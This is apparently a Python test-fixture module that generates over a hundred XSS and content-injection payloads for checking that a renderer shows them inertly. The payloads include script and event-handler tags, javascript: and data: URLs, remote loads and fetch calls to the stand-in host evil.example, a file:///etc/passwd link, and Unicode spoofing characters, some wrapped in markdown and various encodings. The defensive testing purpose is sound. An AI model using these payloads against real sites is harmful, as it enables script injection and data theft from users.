"""Texts that want to run, load or hide something. Every one of them is harmless where it is shown as text."""

from __future__ import annotations

import html
from collections.abc import Iterator
from urllib.parse import quote

from tests.browser.watching import MARK

EVIL = "http://evil.example"
RUN = f"window.{MARK}=1"
LOAD = f"fetch('{EVIL}/x')"

TAGS = [
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "<script src={evil}/a.js></script>",
    "<script type=module>import '{evil}/m.js'</script>",
    "<img src=x onerror={run}>",
    "<img src={evil}/p.png>",
    "<img srcset='{evil}/a 1x'>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><image href={evil}/i.svg /></svg>",
    "<svg><use href='{evil}/u.svg#x'/></svg>",
    "<svg><animate onbegin={run} attributeName=x></svg>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data={evil}/o></object>",
    "<embed src=javascript:{run}>",
    "<video><source onerror={run}></video>",
    "<audio src={evil}/a.ogg autoplay>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<marquee onstart={run}>",
    "<form action={evil}><button autofocus>x</button></form>",
    "<link rel=stylesheet href={evil}/s.css>",
    "<link rel=prefetch href={evil}/p>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<base href={evil}>",
    "<style>@import '{evil}/i.css'; *{{background:url({evil}/b)}}</style>",
    "<div style='background:url({evil}/d)'>x</div>",
    "<a href=javascript:{run}>click</a>",
    "<a href='{evil}' ping='{evil}/ping'>x</a>",
    "<template shadowrootmode=open><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<title><img src=x onerror={run}></title>",
    "<xmp><p title='</xmp><svg onload={run}>'>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "'\"><img src=x onerror={run}>",
    '"-{run}-"',
    "');{run};//",
    "${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
]
LINKS = [
    "javascript:{run}",
    "JAVASCRIPT:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "&#x6A;avascript:{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={run}>",
    "blob:{evil}/x",
    "file:///etc/passwd",
    "//evil.example/x",
    "view-source:javascript:{run}",
]
SPELLED = [
    "\u202egnp.exe",
    "\u200b\u200c\u200d\ufeff",
    "\u2066hidden\u2069",
    "\x1b[31mred\x1b[0m",
    "a\x00b",
    "\ud83d\ude00",
]


def payloads() -> list[str]:
    """More than a hundred, no two alike."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    tags = [text.format(run=RUN, evil=EVIL) for text in TAGS]
    links = [text.format(run=RUN, evil=EVIL) for text in LINKS]
    yield from tags
    yield from SPELLED
    for link in links:
        yield f"[text]({link})"
        yield f"[text](<{link}>)"
        yield f"![alt]({link})"
        yield f"<{link}>"
    for tag in tags[:20:2]:
        yield html.escape(tag)
        yield quote(tag)
        yield tag.upper()
        yield f"```{tag}\n{tag}\n```"
        yield f"| {tag} |\n|---|\n| {tag} |"
        yield f"> - **{tag}**"
        yield f"[{tag}]({EVIL} '{tag}')"
        yield f'[x]: {EVIL} "{tag}"\n\n[x]'
    yield f"![]({EVIL}/pixel.png)"
    yield f'![a]({EVIL}/{"x" * 50}.png "{LOAD}")'
